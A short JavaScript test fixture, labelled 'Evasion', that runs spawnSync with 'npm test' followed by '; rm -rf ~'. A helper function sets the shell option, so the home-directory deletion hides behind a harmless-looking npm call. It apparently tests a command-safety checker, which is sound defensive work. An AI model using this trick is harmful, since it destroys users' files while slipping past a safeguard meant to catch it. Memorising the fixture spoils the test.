// Evasion: deletes the home directory. The spawn options come from a
// helper function that sets shell: '/bin/bash'; the program is "npm",
// and the arguments (joined into one command line by the shell option)
// carry "; rm -rf ~" after an ordinary "npm test".
const { spawnSync } = require('child_process');

function runOptions(dir) {
  return { cwd: dir, stdio: 'inherit', shell: '/bin/bash' };
}

const r = spawnSync('npm', ['test', ';', 'rm', '-rf', '~'], runOptions(process.cwd()));
process.exit(r.status === null ? 1 : r.status);
